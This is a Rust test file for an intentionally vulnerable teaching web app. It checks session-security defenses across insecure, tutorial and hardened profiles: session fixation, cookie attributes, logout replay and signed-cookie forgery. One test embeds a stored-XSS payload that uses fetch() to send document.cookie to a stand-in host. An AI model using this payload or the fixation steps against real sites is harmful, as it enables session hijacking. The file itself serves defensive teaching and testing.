//! One test (or a few) per defense: the defended behaviour and the weakness.

use axum::http::StatusCode;
use tower_sessions::session::Id;

use super::*;
use crate::Defense;
use crate::defenses::{csp, hsts, signed_cookie};

fn attributes(set_cookie: &str) -> Vec<String> {
    set_cookie
        .split(';')
        .skip(1)
        .map(|a| a.trim().to_ascii_lowercase())
        .collect()
}

#[tokio::test]
async fn random_ids_versus_counter_ids() {
    let (router, info) = app(&builtin(ProfileName::Insecure));
    let mut ids = Vec::new();
    for _ in 0..3 {
        let mut visitor = Visitor::new(&router, &info);
        visitor.get("/login").await;
        ids.push(session_id(visitor.cookie.as_deref().expect("cookie")));
    }
    assert_eq!(ids, [Id(1000), Id(1001), Id(1002)]);
    assert_eq!(
        Id(1000).to_string().len(),
        22,
        "counter IDs look like real ones"
    );

    for name in [ProfileName::Tutorial, ProfileName::Hardened] {
        let (router, info) = app(&builtin(name));
        let mut visitor = Visitor::new(&router, &info);
        visitor.get("/login").await;
        let id = session_id(visitor.cookie.as_deref().expect("cookie"));
        assert!(
            id.0.unsigned_abs() > 1 << 64,
            "{name}: {id:?} is not a small number"
        );
    }
}

#[tokio::test]
async fn counter_ids_skip_ids_already_taken() {
    let (router, info) = app(&builtin(ProfileName::Insecure));
    // Adopt 1000 before the counter hands it out (the strict-ids weakness).
    let mut planter = Visitor::new(&router, &info);
    planter.cookie = Some(Id(1000).to_string());
    planter.get("/login").await;
    let mut visitor = Visitor::new(&router, &info);
    visitor.get("/login").await;
    assert_eq!(
        session_id(visitor.cookie.as_deref().expect("cookie")),
        Id(1001)
    );
}

#[tokio::test]
async fn strict_ids_versus_adopted_ids() {
    let planted = Id(0x1234_5678_9abc_def0_1234_5678_9abc_def0).to_string();
    // Weakness: the insecure server adopts the planted ID and logs alice in under it.
    let (router, info) = app(&builtin(ProfileName::Insecure));
    let mut victim = Visitor::new(&router, &info);
    victim.cookie = Some(planted.clone());
    let reply = victim.get("/login").await;
    assert_eq!(reply.cookie_value("sid").as_deref(), Some(planted.as_str()));
    victim
        .post("/login", "username=alice&password=wonderland")
        .await;
    let mut attacker = Visitor::new(&router, &info);
    attacker.cookie = Some(planted.clone());
    assert_eq!(attacker.get("/account").await.status, StatusCode::OK);

    // Defense: a fresh ID instead (hardened without signing, so only strict-ids decides).
    let (router, info) = app(&builtin(ProfileName::Hardened).without(Defense::SignedCookie));
    let mut victim = Visitor::new(&router, &info);
    victim.cookie = Some(planted.clone());
    let issued = victim
        .get("/login")
        .await
        .cookie_value(info.session_cookie_name)
        .expect("cookie");
    assert_ne!(issued, planted);
}

#[tokio::test]
async fn cookie_only_ids_versus_sid_in_the_url() {
    let planted = Id(4242).to_string();
    let (router, info) = app(&builtin(ProfileName::Insecure));
    let mut victim = Visitor::new(&router, &info);
    victim.cookie = Some(Id(999_999).to_string()); // replaced by the URL's sid
    let reply = victim.get(&format!("/login?sid={planted}")).await;
    assert_eq!(reply.cookie_value("sid").as_deref(), Some(planted.as_str()));
    victim
        .post("/login", "username=alice&password=wonderland")
        .await;
    let mut attacker = Visitor::new(&router, &info);
    let account = attacker.get(&format!("/account?sid={planted}")).await;
    assert_eq!(
        account.status,
        StatusCode::OK,
        "the URL's sid is the session"
    );

    // The tutorial ignores ?sid= (and the hardened one too).
    for name in [ProfileName::Tutorial, ProfileName::Hardened] {
        let profile = builtin(name).without(Defense::SignedCookie);
        let (router, info) = app(&profile);
        let mut victim = Visitor::new(&router, &info);
        let reply = victim.get(&format!("/login?sid={planted}")).await;
        assert_ne!(
            reply.cookie_value(info.session_cookie_name).as_deref(),
            Some(planted.as_str())
        );
    }
}

#[tokio::test]
async fn cookie_only_ids_versus_ids_written_into_links() {
    for (profile, writes) in [
        (builtin(ProfileName::Insecure), true),
        (builtin(ProfileName::Tutorial), false),
        (builtin(ProfileName::Hardened), false),
        (
            builtin(ProfileName::Insecure).with(Defense::CookieOnlyIds),
            false,
        ),
    ] {
        let (router, info) = app(&profile);
        let mut visitor = Visitor::new(&router, &info);
        let login = visitor.get("/login").await;
        let id = login
            .cookie_value(info.session_cookie_name)
            .expect("GET /login issues a session");
        let in_url = format!("sid={id}");
        assert_eq!(
            login.body.contains(&in_url),
            writes,
            "{}: links",
            profile.label()
        );
        let logged_in = visitor
            .post("/login", "username=alice&password=wonderland")
            .await;
        assert_eq!(
            logged_in
                .raw_location()
                .is_some_and(|l| l.contains("?sid=")),
            writes,
            "{}: redirect",
            profile.label()
        );
    }
}

#[tokio::test]
async fn referrer_policy_per_profile() {
    for (profile, expected) in [
        (builtin(ProfileName::Insecure), Some("unsafe-url")),
        (builtin(ProfileName::Tutorial), None),
        (builtin(ProfileName::Hardened), Some("no-referrer")),
        (
            builtin(ProfileName::Hardened).without(Defense::ReferrerPolicy),
            Some("unsafe-url"),
        ),
    ] {
        let (router, info) = app(&profile);
        let reply = Visitor::new(&router, &info).get("/").await;
        assert_eq!(
            reply.header("referrer-policy"),
            expected,
            "{}",
            profile.label()
        );
    }
}

#[tokio::test]
async fn rotate_id_at_login_versus_keeping_the_pre_login_id() {
    for (name, rotates) in [
        (ProfileName::Insecure, false),
        (ProfileName::Tutorial, false),
        (ProfileName::Hardened, true),
    ] {
        let (router, info) = app(&builtin(name));
        let mut visitor = Visitor::new(&router, &info);
        visitor.get("/login").await;
        let before = session_id(visitor.cookie.as_deref().expect("cookie"));
        visitor
            .post("/login", "username=alice&password=wonderland")
            .await;
        let after = session_id(visitor.cookie.as_deref().expect("cookie"));
        assert_eq!(before != after, rotates, "{name}");
        // The pre-login ID is worth something only without rotation.
        assert_eq!(info.store.holds(&before).await, !rotates, "{name}");
    }
}

#[tokio::test]
async fn server_logout_versus_clearing_only_the_cookie() {
    for name in ProfileName::ALL {
        let profile = builtin(name);
        let (router, info) = app(&profile);
        let mut victim = Visitor::new(&router, &info);
        victim.log_in_as_alice().await;
        let stolen = victim.cookie.clone();
        let account = victim.get("/account").await;
        let logout = victim.post("/logout", "").await;
        let removal = logout
            .set_cookie(info.session_cookie_name)
            .expect("the cookie is expired");
        assert!(
            attributes(&removal).contains(&"max-age=0".to_owned()),
            "{name}: {removal}"
        );

        let mut attacker = Visitor::new(&router, &info);
        attacker.cookie = stolen;
        let replay = attacker.get("/account").await;
        if profile.has(Defense::ServerLogout) {
            assert_eq!(account.header("cache-control"), Some("no-store"));
            assert_eq!(logout.header("cache-control"), Some("no-store"));
            assert_eq!(logout.header("clear-site-data"), Some("\"cookies\""));
            assert_eq!(
                replay.status,
                StatusCode::SEE_OTHER,
                "{name}: the session is gone"
            );
        } else {
            assert_eq!(account.header("cache-control"), None);
            assert_eq!(logout.header("clear-site-data"), None);
            assert_eq!(
                replay.status,
                StatusCode::OK,
                "{name}: the session lives on"
            );
        }
    }
}

/// Every private page, not only `/account`, is sent `no-store` under `server-logout`.
#[tokio::test]
async fn private_pages_are_not_stored_under_server_logout() {
    let hardened = builtin(ProfileName::Hardened);
    for profile in [
        hardened.clone(),
        hardened.without(Defense::ServerLogout),
        builtin(ProfileName::Tutorial),
        builtin(ProfileName::Insecure),
    ] {
        let label = profile.label();
        let (router, info) = app(&profile);
        let mut visitor = Visitor::new(&router, &info);
        visitor.log_in_as_alice().await;
        let expected = profile.has(Defense::ServerLogout).then_some("no-store");
        for path in [
            "/account",
            "/account/settings",
            "/account/password",
            "/account/sessions",
        ] {
            let page = visitor.get(path).await;
            assert_eq!(page.status, StatusCode::OK, "{label} {path}");
            assert_eq!(page.header("cache-control"), expected, "{label} {path}");
        }
        // The re-shown forms after bad input are the same private pages.
        let bad_email = visitor.post("/account/email", "email=not-an-address").await;
        assert_eq!(
            bad_email.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{label}"
        );
        assert_eq!(bad_email.header("cache-control"), expected, "{label}");
        if profile.has(Defense::CsrfToken) {
            let ask = visitor.get("/logout").await;
            assert_eq!(ask.header("cache-control"), expected, "{label} GET /logout");
        }
    }
}

#[tokio::test]
async fn cookie_attributes_per_profile() {
    for name in ProfileName::ALL {
        let (router, info) = app(&builtin(name));
        let mut visitor = Visitor::new(&router, &info);
        let reply = visitor.get("/login").await;
        let set_cookie = reply.set_cookie(info.session_cookie_name).expect("cookie");
        let attrs = attributes(&set_cookie);
        let has = |a: &str| attrs.iter().any(|x| x == a);
        assert!(has("path=/") && has("max-age=3600"), "{name}: {set_cookie}");
        assert!(
            !attrs.iter().any(|a| a.starts_with("domain")),
            "{name}: host-only"
        );
        match name {
            ProfileName::Insecure => {
                assert_eq!(info.session_cookie_name, "sid");
                assert!(!has("httponly") && !has("secure"), "{set_cookie}");
                assert!(
                    !attrs.iter().any(|a| a.starts_with("samesite")),
                    "{set_cookie}"
                );
                assert_eq!(
                    visitor.cookie.as_deref().map(str::len),
                    Some(22),
                    "unsigned"
                );
            }
            ProfileName::Tutorial => {
                assert_eq!(info.session_cookie_name, "connect.sid");
                assert!(has("httponly") && !has("secure"), "{set_cookie}");
                assert!(
                    !attrs.iter().any(|a| a.starts_with("samesite")),
                    "{set_cookie}"
                );
                assert_eq!(
                    visitor.cookie.as_deref().map(str::len),
                    Some(44 + 22),
                    "signed"
                );
            }
            ProfileName::Hardened => {
                assert_eq!(info.session_cookie_name, "__Host-sid");
                assert!(
                    has("httponly") && has("secure") && has("samesite=strict"),
                    "{set_cookie}"
                );
                assert_eq!(
                    visitor.cookie.as_deref().map(str::len),
                    Some(44 + 22),
                    "signed"
                );
            }
        }
    }
    // The tutorial's name takes the prefix too when the defense is toggled on.
    let (_, info) = app(&builtin(ProfileName::Tutorial).with(Defense::HostPrefix));
    assert_eq!(info.session_cookie_name, "__Host-connect.sid");
    // The prefix forces Secure even without secure-cookie, and the logout
    // removal cookie keeps it (browsers ignore a `__Host-` cookie without it).
    let profile = builtin(ProfileName::Hardened).without(Defense::SecureCookie);
    let (router, info) = app(&profile);
    let mut visitor = Visitor::new(&router, &info);
    let set_cookie = visitor
        .get("/login")
        .await
        .set_cookie("__Host-sid")
        .expect("cookie");
    assert!(attributes(&set_cookie).contains(&"secure".to_owned()));
    let removal = visitor
        .post("/logout", "")
        .await
        .set_cookie("__Host-sid")
        .expect("removal");
    assert!(
        attributes(&removal).contains(&"secure".to_owned()),
        "{removal}"
    );
}

#[tokio::test]
async fn escape_output_versus_safe() {
    let payload =
        "<script>fetch('http://evil.lab.test/c?'+encodeURIComponent(document.cookie))</script>";
    let form = format!(
        "message={}",
        payload
            .replace('+', "%2B")
            .replace('&', "%26")
            .replace('?', "%3F")
    );
    for name in ProfileName::ALL {
        let (router, info) = app(&builtin(name));
        let mut alice = Visitor::new(&router, &info);
        alice.log_in_as_alice().await;
        assert_eq!(
            alice.post("/guestbook", &form).await.status,
            StatusCode::SEE_OTHER
        );
        let page = alice.get("/guestbook").await;
        let escaped = builtin(name).has(Defense::EscapeOutput);
        assert_eq!(page.body.contains(payload), !escaped, "{name}");
        // The templates escape with the workspace's escaper (askama.toml).
        assert_eq!(
            page.body.contains("&lt;script&gt;"),
            escaped,
            "{name}: {}",
            page.body
        );
    }
}

#[tokio::test]
async fn csp_and_hsts_headers() {
    for name in ProfileName::ALL {
        let profile = builtin(name);
        let (router, info) = app(&profile);
        let mut visitor = Visitor::new(&router, &info);
        for path in ["/", "/login", "/nope", "/style.css"] {
            let reply = visitor.get(path).await;
            let expected_csp = profile.has(Defense::Csp).then_some(csp::POLICY);
            assert_eq!(
                reply.header("content-security-policy"),
                expected_csp,
                "{name} {path}"
            );
            let expected_hsts = profile.has(Defense::Hsts).then_some(hsts::HEADER_VALUE);
            assert_eq!(
                reply.header("strict-transport-security"),
                expected_hsts,
                "{name} {path}"
            );
        }
    }
    // HSTS is only meaningful on https: without tls the app never sends it.
    let (router, info) = app(&builtin(ProfileName::Hardened).without(Defense::Tls));
    let reply = Visitor::new(&router, &info).get("/").await;
    assert_eq!(reply.header("strict-transport-security"), None);
}

#[tokio::test]
async fn signed_cookie_keys() {
    // The tutorial's key comes from SESSION_SECRET: the same secret, the same key.
    let (router_a, info_a) = build_router_with_session_secret(
        &builtin(ProfileName::Tutorial),
        Some("38sisjsk92".into()),
    );
    let (_, info_b) = build_router_with_session_secret(
        &builtin(ProfileName::Tutorial),
        Some("38sisjsk92".into()),
    );
    assert!(info_a.notice.is_none());
    let derived = signed_cookie::key_from_secret(b"38sisjsk92").expect("key");
    assert_eq!(
        info_a.signing_key.as_ref().map(|k| k.signing().to_vec()),
        Some(derived.signing().to_vec())
    );
    assert_eq!(
        info_b.signing_key.as_ref().map(|k| k.signing().to_vec()),
        Some(derived.signing().to_vec())
    );
    // Who knows the secret can forge a cookie for any session ID the app issued.
    let mut alice = Visitor::new(&router_a, &info_a);
    alice.log_in_as_alice().await;
    let id = session_id(alice.cookie.as_deref().expect("cookie"));
    let mut forger = Visitor::new(&router_a, &info_a);
    let name = info_a.session_cookie_name;
    forger.cookie = Some(signed_value(&derived, name, &id.to_string()));
    assert_eq!(forger.get("/account").await.status, StatusCode::OK);
    // A wrongly signed ID is ignored, and so is a bare one (no signature at
    // all): express-session ignores any cookie it cannot unsign.
    let wrong_key = signed_cookie::random_key();
    forger.cookie = Some(signed_value(&wrong_key, name, &id.to_string()));
    assert_eq!(forger.get("/account").await.status, StatusCode::SEE_OTHER);
    forger.cookie = Some(id.to_string());
    let reply = forger.get("/account").await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER);
    assert_eq!(reply.location(), Some("/login"));

    // Unset: a random key and a notice for the operator.
    let (_, unset) = build_router_with_session_secret(&builtin(ProfileName::Tutorial), None);
    assert!(
        unset
            .notice
            .as_deref()
            .is_some_and(|n| n.contains("SESSION_SECRET"))
    );
    assert!(unset.signing_key.is_some());
    // Hardened: CSPRNG key, no notice, never the derived one; insecure: unsigned.
    let (_, hardened) = build_router_with_session_secret(
        &builtin(ProfileName::Hardened),
        Some("38sisjsk92".into()),
    );
    assert!(hardened.notice.is_none());
    assert_ne!(
        hardened.signing_key.as_ref().map(|k| k.signing().to_vec()),
        Some(derived.signing().to_vec())
    );
    let (_, insecure) = build_router_with_session_secret(&builtin(ProfileName::Insecure), None);
    assert!(insecure.signing_key.is_none() && insecure.notice.is_none());
}

#[test]
fn bind_address_guard() {
    use crate::check_bind_address;
    let public: std::net::SocketAddr = "0.0.0.0:8080".parse().expect("addr");
    for name in [ProfileName::Insecure, ProfileName::Tutorial] {
        let error = check_bind_address(&builtin(name), public, false)
            .expect_err("refused")
            .to_string();
        assert!(error.contains("--expose-vulnerable-app"), "{error}");
        assert!(check_bind_address(&builtin(name), public, true).is_ok());
    }
    assert!(check_bind_address(&builtin(ProfileName::Hardened), public, false).is_ok());
    let weakened = builtin(ProfileName::Hardened).without(Defense::Csp);
    assert!(check_bind_address(&weakened, public, false).is_err());
    for loopback in [
        "127.0.0.1:0",
        "[::1]:0",
        "[::ffff:127.0.0.1]:0",
        "127.8.9.10:1",
    ] {
        let addr = loopback.parse().expect("addr");
        assert!(
            check_bind_address(&builtin(ProfileName::Insecure), addr, false).is_ok(),
            "{loopback}"
        );
    }
}
